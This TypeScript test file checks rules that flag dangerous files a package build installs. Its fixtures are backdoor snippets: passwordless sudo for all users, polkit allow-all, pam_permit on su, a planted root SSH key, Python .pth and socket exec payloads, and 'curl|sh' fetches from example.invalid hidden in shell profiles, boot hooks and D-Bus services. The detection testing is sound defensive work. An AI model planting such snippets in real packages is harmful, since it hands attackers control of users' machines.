import { type Case, testRule } from "./rule-cases.ts";
import { fetchedCode } from "./rules/fetched-code.ts";
import { machineConfiguration } from "./rules/machine-configuration.ts";

/** Each text is a committed file that package() puts at a path. */
function placed(says: Case["says"], ...files: readonly (readonly [path: string, text: string])[]): Case[] {
  return files.map(([path, text]) => ({
    place: "package()",
    line: `install -Dm644 "$srcdir/shipped" "$pkgdir${path}" # ${path}`,
    says,
    files: { shipped: text },
  }));
}

testRule(machineConfiguration, [
  ...placed(
    "alarm",
    ["/etc/sudoers.d/x", "%users ALL=(ALL) NOPASSWD: ALL\n"],
    [
      "/usr/share/polkit-1/rules.d/x.rules",
      "polkit.addRule(function(a, s) { return polkit.Result.YES; });\n",
    ],
    ["/etc/pam.d/su", "auth sufficient pam_permit.so\n"],
    ["/etc/pam.d/x", "auth optional pam_exec.so expose_authtok /usr/bin/x\n"],
    ["/usr/lib/tmpfiles.d/x.conf", "f+ /etc/sudoers.d/x 0440 root root - ALL ALL=(ALL) ALL\n"],
    ["/usr/lib/tmpfiles.d/x.conf", "f /root/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAA\n"],
    ["/usr/lib/sysusers.d/x.conf", 'u helper 0:0 "Helper" / /bin/bash\n'],
    ["/usr/lib/python3.13/site-packages/x.pth", "import os;os.system(bytes.fromhex('6c73'))\n"],
    ["/usr/lib/python3.13/site-packages/sitecustomize.py", "import socket\nexec(socket.socket().recv(9))\n"],
  ),
  {
    place: "package()",
    line: "cat > \"$pkgdir/usr/bin/x\" <<'END'\n#!/usr/bin/python\nimport urllib.request as r\nexec(r.urlopen('https://example.invalid').read())\nEND",
    says: "alarm",
  },
  ...placed(
    "warning",
    ["/etc/sudoers.d/x", "%wheel ALL=(root) NOPASSWD: /usr/bin/x\n"],
    [
      "/usr/share/polkit-1/rules.d/x.rules",
      'polkit.addRule(function(a) { if (action.id == "x") return polkit.Result.YES; });\n',
    ],
    ["/etc/pam.d/x", "auth include system-login\n"],
    ["/usr/lib/tmpfiles.d/x.conf", "z /usr/bin/x 4755 root root -\n"],
    ["/etc/ca-certificates/trust-source/anchors/x.crt", "-----BEGIN CERTIFICATE-----\n"],
  ),
  ...placed(
    null,
    ["/usr/share/doc/x/sudoers", "%users ALL=(ALL) NOPASSWD: ALL\n"],
    [
      "/usr/share/polkit-1/rules.d/x.rules",
      "polkit.addRule(function() { return polkit.Result.AUTH_ADMIN; });\n",
    ],
    ["/usr/lib/tmpfiles.d/x.conf", "d /var/log/x 2755 x x -\nf /etc/x.conf 0644 - - -\n"],
    ["/usr/lib/sysusers.d/x.conf", 'u x - "X" /var/lib/x\ng x 100\n'],
    ["/usr/lib/python3.13/site-packages/x.pth", "/opt/x\n"],
    ["/usr/bin/x", "#!/usr/bin/python\nprint('x')\n"],
  ),
]);

testRule(fetchedCode, [
  ...placed(
    "alarm",
    ["/etc/profile.d/x.sh", "(curl -s https://example.invalid|sh)&\n"],
    ["/usr/lib/initcpio/hooks/x", "run_hook() {\n  wget -O- http://example.invalid | sh\n}\n"],
    ["/usr/share/bash-completion/completions/x", "curl -s https://example.invalid | sh\n"],
    [
      "/usr/share/dbus-1/services/x.service",
      '[D-BUS Service]\nExec=/bin/sh -c "curl -s https://example.invalid|sh"\n',
    ],
  ),
  ...placed(
    null,
    ["/usr/share/doc/x/example", "curl -s https://example.invalid | sh\n"],
    ["/usr/share/bash-completion/completions/x", "complete -W 'curl sh' x\n"],
    ["/usr/share/dbus-1/services/x.service", "[D-BUS Service]\nName=curl|sh\nExec=/usr/bin/x\n"],
    ["/etc/profile.d/x.sh", "export PATH=$PATH:/opt/x/bin\n"],
  ),
]);
